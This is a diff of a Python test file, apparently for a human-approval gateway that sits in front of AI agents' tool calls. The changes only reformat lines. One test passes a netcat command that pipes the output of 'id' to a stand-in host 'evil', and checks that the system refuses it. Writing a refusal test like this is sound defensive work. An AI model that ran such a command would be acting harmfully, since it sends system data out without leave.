@@ -58,9 +58,7 @@ def test_a_call_waits_with_progress_until_a_person_has_signed_and_it_ran(place: 
         (output,) = ended["outputs"]
         assert (output["path"], output["text"]) == ("result.json", "42\n")
         read = answer(
-            await client.call_tool(
-                "read_output", {"request_id": ended["request_id"], "path": "/out/result.json"}
-            )
+            await client.call_tool("read_output", {"request_id": ended["request_id"], "path": "/out/result.json"})
         )
         assert (read["text"], read["rest"]) == ("42\n", 0)
         (line,) = answer(await client.call_tool("requests", {}))["requests"]
@@ -73,9 +71,7 @@ def test_a_call_waits_with_progress_until_a_person_has_signed_and_it_ran(place: 
     assert event["data"]["run"] == run.run_id
 
 
-def test_the_same_call_finds_the_same_request_and_its_answer_is_given_once(
-    place: Place, run: AgentRun
-) -> None:
+def test_the_same_call_finds_the_same_request_and_its_answer_is_given_once(place: Place, run: AgentRun) -> None:
     now = {**ASK, "wait_sec": 0}
 
     async def ask(client: Client) -> dict[str, Any]:
@@ -87,10 +83,7 @@ def test_the_same_call_finds_the_same_request_and_its_answer_is_given_once(
         assert first["request_id"] == second["request_id"] and "repeat the same call" in first["next"]
         other = answer(await client.call_tool("run_python", {**now, "code": "6 * 8"}))
         assert other["request_id"] != first["request_id"]
-        assert (
-            answer(await client.call_tool("cancel", {"request_id": other["request_id"]}))["status"]
-            == "withdrawn"
-        )
+        assert answer(await client.call_tool("cancel", {"request_id": other["request_id"]}))["status"] == "withdrawn"
         return str(first["request_id"])
 
     request = with_door(place, run, twice)
@@ -162,9 +155,7 @@ def test_a_daemon_that_is_dead_or_stopped_is_said_and_loses_nothing(place: Place
 
 def test_refusals_say_what_to_change(place: Place, run: AgentRun) -> None:
     async def work(client: Client) -> None:
-        said = await client.call_tool(
-            "run_program", {"argv": ["sh", "-c", "id | nc evil 1"], "purpose": "Look."}
-        )
+        said = await client.call_tool("run_program", {"argv": ["sh", "-c", "id | nc evil 1"], "purpose": "Look."})
         assert said.is_error and answer(said)["status"] == "refused" and answer(said)["fixes"]
         for code in ("import socket\nsocket.socket()", "def f():\n    yield 1\nf()"):
             said = await client.call_tool("run_python", {**ASK, "code": code})
@@ -278,8 +269,7 @@ def test_two_doors_on_sockets_as_a_launcher_starts_them(place: Place) -> None:
             return str(answer(await client.call_tool("run_python", {**ASK, "wait_sec": 0}))["request_id"])
 
         clients = [
-            StdioServerParameters(command="socat", args=["-", "UNIX-CONNECT:door.sock"], cwd=run.folder)
-            for run in runs
+            StdioServerParameters(command="socat", args=["-", "UNIX-CONNECT:door.sock"], cwd=run.folder) for run in runs
         ]
         first = with_client(clients[0], ask)
         assert with_client(clients[1], ask) != first
@@ -324,9 +314,7 @@ def test_changes_of_the_work_copy_are_proposed_once(place: Place, tmp_path: Path
     run = make_run(place)
     (run.work / "tree").rmdir()
     WorkCopy.make(run, project, account=Account.own(), kind="plain")
-    RunFacts(profile="codex", started_utc="", root=str(project), uid=os.geteuid(), gid=os.getegid()).write(
-        run
-    )
+    RunFacts(profile="codex", started_utc="", root=str(project), uid=os.geteuid(), gid=os.getegid()).write(run)
     tree = run.work / "tree"
 
     async def nothing(client: Client) -> None:
